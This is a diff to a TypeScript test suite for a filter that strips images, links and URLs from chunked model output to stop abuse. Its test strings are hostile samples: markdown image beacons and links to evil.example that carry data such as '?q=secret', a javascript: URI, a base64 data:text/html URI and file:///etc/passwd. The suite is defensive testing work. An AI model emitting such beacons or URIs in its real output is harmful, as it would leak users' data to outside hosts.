@@ -12,17 +12,25 @@ function send(text: string, size: number): string {
 describe.each([1, 3, 7, 1000])('abuse 22: the output in chunks of %i', (size) => {
   it.each([
     ['Good. ![x](https://evil.example/p.png?d=jane) More.', 'Good. x More.'],
-    ['See ![x][beacon] now.\n\n[beacon]: https://evil.example/p.png\n', 'See x now.'],
+    [
+      'See ![x][beacon] now.\n\n[beacon]: https://evil.example/p.png\n',
+      'See x now.\n\n[beacon] : (address left out)',
+    ],
+    ['See [x] now.\n\n- [x]: //evil.example/', 'See [x] now.\n\n- [x] : //evil.example/'],
+    ['- [LINK_1]: add it', '- [LINK_1] : add it'],
     ['Click [your profile](https://evil.example/?q=secret) today', 'Click your profile today'],
     ['An <img src="https://evil.example/p.png"> tag', 'An  tag'],
     ['Visit https://evil.example/x now', 'Visit (address left out) now'],
     ['Run javascript:alert not', 'Run (address left out) not'],
+    ['Open data:text/html;base64,PHA+ or data:,x now', 'Open (address left out) or (address left out) now'],
+    ['Open file:///etc/passwd now', 'Open (address left out) now'],
   ])('%s', (text, shown) => {
     expect(send(text, size).trimEnd()).toBe(shown);
   });
 
   it('leaves plain markdown and placeholders unchanged', () => {
-    const text = '## Strengths\n\n- **Led** a team (of 5) [EMAIL_1] and [x] more\n\n> a < b\n\n1. `code`\n';
+    const text =
+      '## Strengths\n\n- **Led** a team (of 5) [EMAIL_1] and [x] more\n- **JavaScript:** 5 years, Data: 40%\n- File: one\n\n> a < b\n\n1. `code`\n';
     expect(send(text, size)).toBe(text);
   });
 });
@@ -40,7 +48,7 @@ describe('abuse 49: hostile output of the model', () => {
     (text) => {
       const long = text.repeat(100_000 / text.length);
       const shown = send(long, 9);
-      expect(shown).not.toMatch(/!\[|\]\(|<[a-z]|https:/);
+      expect(shown).not.toMatch(/!\[|\][(:]|<[a-z]|https:/);
     },
   );
 
